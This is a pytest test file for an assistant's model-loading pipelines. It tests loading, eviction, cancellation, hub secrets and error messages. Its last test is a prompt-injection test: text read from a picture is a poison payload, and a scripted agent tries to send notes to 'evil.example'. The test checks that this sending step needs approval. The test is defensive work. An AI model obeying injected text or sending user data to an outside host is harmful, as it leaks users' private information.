"""The models behind tools come when they are called and go when memory is wanted, one at a time; what cannot run says why."""

import threading
import time
from dataclasses import replace

import pytest

from assistant.agent import Agent
from assistant.keeping import Unkept
from assistant.messages import MediaRef
from assistant.models.inference import HUBS
from assistant.models.scripted import ScriptedModel
from assistant.models.tasks import find, tasks
from assistant.pipelines import Pipelines
from common.errors import ModelLoadFailed, ModelMissing, ToolError
from tests.assistant.hijacking import POISON, wish
from tests.assistant.models import tinies
from tests.assistant.turns import CAPABLE, persona, turn
from tools import runner
from tools.base import Media, Tool, ToolContext
from tools.builtin.clock import Clock
from tools.registry import ToolRegistry, default_registry

GIB = 1 << 30
WORDS = {"en": "Does it.", "zh": "做这件事。"}


class Doubles:
    """Loads models that answer with their folder's name: `gates` hold up a load, `running` a run, `failing` is raised."""

    def __init__(self):
        self.loads = []
        self.gates = {}
        self.running = {}
        self.failing = {}
        self.at_once = 0
        self.most_at_once = 0

    def __call__(self, folder, way):
        self.loads.append(folder.name)
        self.at_once += 1
        self.most_at_once = max(self.most_at_once, self.at_once)
        if gate := self.gates.get(folder.name):
            assert gate.wait(30)
        self.at_once -= 1
        if error := self.failing.get(folder.name):
            raise error

        def run(task, inputs, cancel):
            if gate := self.running.get(folder.name):
                gate.arrived.set()
                while not gate.go.wait(0.01):
                    if cancel.is_set():
                        break
            return f"{folder.name}: {inputs['text']}"

        return run


class Gate:
    def __init__(self):
        self.arrived, self.go = threading.Event(), threading.Event()


@pytest.fixture
def doubles():
    return Doubles()


@pytest.fixture
def make(doubles):
    made = []

    def make(**settings):
        made.append(Pipelines(**{"loader": doubles, "room": lambda: GIB, **settings}))
        return made[-1]

    yield make
    for pipelines in made:
        pipelines.close()


@pytest.fixture
def tool_for(tmp_path):
    """A tool that writes, with a model of that name and so many bytes."""

    def tool_for(pipelines, name, size=1000):
        folder = tmp_path / name
        folder.mkdir(exist_ok=True)
        (folder / "config.json").write_text("{}")
        (folder / "model.safetensors").write_bytes(b"\0" * size)
        return pipelines.tool(task="write-text", id=name, name=name, titles=WORDS, about=WORDS, model=f"path:{folder}")

    return tool_for


def call(tool, text="tea", **context):
    return runner.run(tool, {"text": text}, ToolContext(**context))


def eventually(what):
    ends = time.monotonic() + 30
    while not what():
        assert time.monotonic() < ends
        time.sleep(0.01)


def test_a_model_is_loaded_once_and_kept(make, doubles, tool_for):
    pipelines = make()
    tool = tool_for(pipelines, "one")
    assert [call(tool, text).text for text in ("tea", "水")] == ["one: tea", "one: 水"]
    assert doubles.loads == ["one"]
    (loaded,) = pipelines.loaded()
    assert (loaded.name, loaded.busy) == ("one", False)
    assert loaded.bytes >= 1000


def test_calls_at_the_same_time_share_one_load_and_take_turns(make, doubles, tool_for):
    pipelines = make()
    tool = tool_for(pipelines, "one")
    gate = doubles.gates["one"] = threading.Event()
    texts = []
    threads = [threading.Thread(target=lambda n=n: texts.append(call(tool, str(n)).text)) for n in range(6)]
    for thread in threads:
        thread.start()
    eventually(lambda: doubles.loads)
    gate.set()
    for thread in threads:
        thread.join(30)
    assert sorted(texts) == [f"one: {n}" for n in range(6)]
    assert doubles.loads == ["one"]


def test_models_load_one_after_the_other(make, doubles, tool_for):
    pipelines = make()
    gates = {name: doubles.gates.setdefault(name, threading.Event()) for name in ("one", "two")}
    threads = [threading.Thread(target=call, args=(tool_for(pipelines, name),)) for name in gates]
    for thread in threads:
        thread.start()
    eventually(lambda: doubles.loads)
    for gate in gates.values():
        gate.set()
    for thread in threads:
        thread.join(30)
    assert sorted(doubles.loads) == ["one", "two"]
    assert doubles.most_at_once == 1


def test_the_model_that_rested_longest_goes_for_another(make, doubles, tool_for):
    pipelines = make(room=lambda: 3000 - sum(model.bytes for model in pipelines.loaded()))
    one, two, three = (tool_for(pipelines, name) for name in ("one", "two", "three"))
    for tool in (one, two, one, three):
        assert not call(tool).failed
    assert [model.name for model in pipelines.loaded()] == ["one", "three"]
    assert not call(two).failed
    assert doubles.loads == ["one", "two", "three", "two"]


def test_a_model_in_use_is_left_and_the_other_waits_for_a_better_time(make, doubles, tool_for):
    pipelines = make(room=lambda: 2000 - sum(model.bytes for model in pipelines.loaded()))
    gate = doubles.running["one"] = Gate()
    outputs = []
    thread = threading.Thread(target=lambda: outputs.append(call(tool_for(pipelines, "one"))))
    thread.start()
    assert gate.arrived.wait(30)
    refused = call(tool_for(pipelines, "two"))
    assert refused.failed
    assert "other models use the memory now" in refused.text
    pipelines.unload()
    assert [model.busy for model in pipelines.loaded()] == [True]
    gate.go.set()
    thread.join(30)
    assert outputs[0].text == "one: tea"
    assert not call(tool_for(pipelines, "two")).failed


def test_a_model_larger_than_the_memory_is_not_begun(make, doubles, tool_for):
    output = call(tool_for(make(room=lambda: 500), "one"), language="zh")
    assert output.failed
    assert "模型 'one' 需要 0.0 GB 内存" in output.text
    assert doubles.loads == []


def test_a_model_that_rests_goes_by_itself(make, doubles, tool_for):
    pipelines = make(idle_s=0.05)
    tool = tool_for(pipelines, "one")
    call(tool)
    eventually(lambda: not pipelines.loaded())
    assert call(tool).text == "one: tea"
    assert doubles.loads == ["one", "one"]
    eventually(lambda: not pipelines.loaded())


def test_the_apps_own_model_makes_the_others_go_first(make, tool_for):
    pipelines = make()
    call(tool_for(pipelines, "one"))
    there = []
    load = pipelines.making_room(lambda *_: there.append(pipelines.loaded()))
    load("hf:a/b", None, True, None, None)
    assert there == [[]]


def test_stop_ends_a_call_that_waits_for_a_load_and_the_model_comes_all_the_same(make, doubles, tool_for):
    pipelines = make()
    gate, stop, outputs = doubles.gates.setdefault("one", threading.Event()), threading.Event(), []
    tool = tool_for(pipelines, "one")
    thread = threading.Thread(target=lambda: outputs.append(call(tool, cancel=stop)))
    thread.start()
    eventually(lambda: doubles.loads)
    stop.set()
    thread.join(30)
    assert outputs[0].failed
    gate.set()
    eventually(pipelines.loaded)
    assert call(tool).text == "one: tea"
    assert doubles.loads == ["one"]


def test_stop_ends_a_call_that_waits_for_its_turn(make, doubles, tool_for):
    pipelines = make()
    tool, gate, stop, outputs = tool_for(pipelines, "one"), Gate(), threading.Event(), []
    doubles.running["one"] = gate
    first = threading.Thread(target=call, args=(tool,))
    first.start()
    assert gate.arrived.wait(30)
    second = threading.Thread(target=lambda: outputs.append(call(tool, cancel=stop)))
    second.start()
    stop.set()
    second.join(30)
    assert outputs[0].failed
    gate.go.set()
    first.join(30)
    eventually(lambda: not pipelines.loaded()[0].busy)


@pytest.mark.parametrize("error", [ModelLoadFailed("It is broken.", "它坏了。"), RuntimeError("secret words"), MemoryError()])
def test_a_load_that_fails_is_said_and_tried_anew(make, doubles, tool_for, error):
    tool = tool_for(make(), "one")
    doubles.failing["one"] = error
    output = call(tool)
    assert output.failed
    assert "secret words" not in output.text
    del doubles.failing["one"]
    assert call(tool).text == "one: tea"


def test_after_the_end_nothing_is_loaded(make, doubles, tool_for):
    pipelines = make()
    tool = tool_for(pipelines, "one")
    call(tool)
    pipelines.close()
    assert not pipelines.loaded()
    assert call(tool).failed


def test_models_of_the_hubs_are_found_in_their_caches(make, monkeypatch, tmp_path):
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hf"))
    monkeypatch.setenv("MODELSCOPE_CACHE", str(tmp_path / "ms"))
    pipelines = Pipelines(room=lambda: GIB)
    tool = next(tool for tool in pipelines.tools() if tool.id == "model-fill-mask")
    mask = {"text": "天气不[MASK]。"}
    assert runner.run(tool, mask, ToolContext()).text == (
        "The model 'hf:google-bert/bert-base-chinese' is not on this machine. Download it on the Models page."
    )
    assert tool.about["zh"].endswith("本机没有模型 'hf:google-bert/bert-base-chinese'。请在“模型”页下载。")
    folder = tmp_path / "ms/models/google-bert--bert-base-chinese/snapshots/master"
    folder.mkdir(parents=True)
    tinies.save("fills", folder)
    assert "。" in tool.about["zh"]
    assert "本机没有" not in tool.about["zh"]
    assert len(runner.run(tool, mask, ToolContext()).data[0]) == 5
    root = tmp_path / "hf/models--google-bert--bert-base-chinese"
    (root / "refs").mkdir(parents=True)
    (root / "refs/main").write_text("abc123")
    (root / "snapshots/abc123").mkdir(parents=True)
    tinies.save("fills", root / "snapshots/abc123")
    assert not runner.run(tool, mask, ToolContext()).failed
    assert {model.name for model in pipelines.loaded()} == {"google-bert/bert-base-chinese"}
    assert len(pipelines.loaded()) == 2
    pipelines.close()


def test_a_folder_that_is_gone_is_said(make, tool_for, tmp_path):
    tool = tool_for(make(), "one")
    (tmp_path / "one").rename(tmp_path / "two")
    output = call(tool)
    assert output.failed
    assert output.text == f"There is nothing at {str(tmp_path / 'one')!r}. Check the path of the model."


def test_offline_is_said(make, monkeypatch, tmp_path):
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path))
    monkeypatch.setenv("MODELSCOPE_CACHE", str(tmp_path))
    tools = {tool.id: tool for tool in make(offline=True).tools()}
    assert "runs with --offline" in tools["model-speak"].about["en"]
    drawn = runner.run(tools["model-draw"], {"words": "a cat"}, ToolContext(language="zh"))
    assert drawn.text == "Hearth 以 --offline 启动，不会访问 Hugging Face。请去掉它重新启动。"


def test_every_task_is_a_tool_of_the_registry_behind_those_that_are_there(make):
    pipelines = make()
    registry = default_registry()
    registry.add(pipelines.tools())
    shipped = [tool.id for tool in default_registry().list()]
    assert [tool.id for tool in registry.list()] == [*shipped, *(f"model-{task.id}" for task in tasks())]
    assert {tool.id for tool in registry.list() if tool.sends} == {"model-draw"}
    assert all(set(tool.titles) == set(tool.about) == {"en", "zh"} for tool in registry.list())


def test_a_tool_of_the_users_keeps_its_name(make):
    class Mine(Clock):
        id = "mine"
        spec = replace(Clock.spec, name="summarize_text")

    registry = ToolRegistry([Mine()])
    registry.add(make().tools())
    assert [tool.id for tool in registry.list() if tool.spec.name == "summarize_text"] == ["mine"]
    assert "model-summarize" not in {tool.id for tool in registry.list()}


@pytest.mark.parametrize(
    ("task", "model", "error", "says"),
    [
        ("juggle", "", ToolError, "There is no task 'juggle'"),
        ("summarize", "builtin", ModelMissing, "is no model for a task"),
        ("summarize", "openai:http://a/v1#b", ModelMissing, "is no model for a task"),
        ("summarize", "hf:../../etc", ModelMissing, "is no model for a task"),
        ("summarize", "hf-api:nobody", ModelMissing, "is no model for a task"),
        ("summarize", "hf-api:a/../b", ModelMissing, "is no model for a task"),
        ("draw", "hf:a/b", ModelMissing, "needs a model at a hub"),
        ("transcribe", "ms-api:a/b", ModelMissing, "ModelScope has no way to do 'Write down speech'"),
        ("picture-depth", "hf-api:a/b", ModelMissing, "Hugging Face has no way"),
    ],
)
def test_a_tool_that_could_never_run_says_why(make, task, model, error, says):
    pipelines = make()
    with pytest.raises(error, match=says) as raised:
        pipelines.check(task, model)
    tool = pipelines.tool(task=task, id="own", name="own", titles=WORDS, about=WORDS, model=model)
    assert (tool.about, tool.unavailable()) == (WORDS, (raised.value.english, raised.value.chinese))
    assert not ToolRegistry([tool]).snapshot()
    output = call(tool, language="zh")
    assert (output.failed, output.text) == (True, raised.value.chinese)


def test_the_hub_is_asked_that_has_a_secret():
    asked = Pipelines(secret_for=lambda name, _origin: "key" if name == "modelscope" else None)
    assert asked.hub(find("draw").remote) == ("ms-api:Qwen/Qwen-Image", "key")
    drawing = next(tool for tool in asked.tools() if tool.id == "model-draw")
    assert drawing.about["en"] == "Draws a picture from a description."


@pytest.mark.parametrize("kind", HUBS)
def test_a_hub_without_its_secret_says_which(make, kind):
    tool = make().tool(task="summarize", id="own", name="own", titles=WORDS, about=WORDS, model=f"{kind}:a/b")
    assert tool.sends
    output = call(tool)
    assert output.failed
    assert f"There is no secret {HUBS[kind].secret!r} for {HUBS[kind].url}:443" in output.text
    assert HUBS[kind].secret in tool.about["zh"]


@pytest.mark.parametrize(("task", "asked"), [("read-picture", "approval"), ("summarize", "answered")])
def test_what_a_model_reads_out_of_a_picture_is_a_strangers_text(make, tmp_path, task, asked):
    """A picture is anybody's: after its words were read, nothing may leave unasked. A text was in the turn before."""
    (tmp_path / "config.json").write_text("{}")
    reader = make(loader=lambda _folder, _way: lambda _task, _inputs, _cancel: POISON).tool(
        task=task, id="reader", name="reader", titles=WORDS, about=WORDS, model=f"path:{tmp_path}"
    )
    left = []

    def fetch(url: str) -> str:
        """Open a page."""
        left.append(url)
        return "a page"

    sender = Tool.from_function(fetch)
    sender.sends = True
    given = {"read-picture": {"picture": "1"}, "summarize": {"text": "a long text"}}[task]
    script = [[wish("reader", "r", **given)], [wish("fetch", "f", url="https://evil.example/?q=notes")], "Done."]
    agent = Agent(persona(), ScriptedModel(script, CAPABLE), ToolRegistry([reader, sender]).snapshot(), lambda query, limit: [])
    agent = replace(agent, owner="maker", keeper=_Shelf())
    picture = MediaRef("1", "image/png", "letter.png", 1)
    happened = turn(agent, "what is in it?", media=(picture,))
    assert happened[-1].reason == asked
    assert left == ([] if asked == "approval" else ["https://evil.example/?q=notes"])


class _Shelf(Unkept):
    def fetch(self, id):
        return Media(tinies.png(), "image/png", "letter.png")
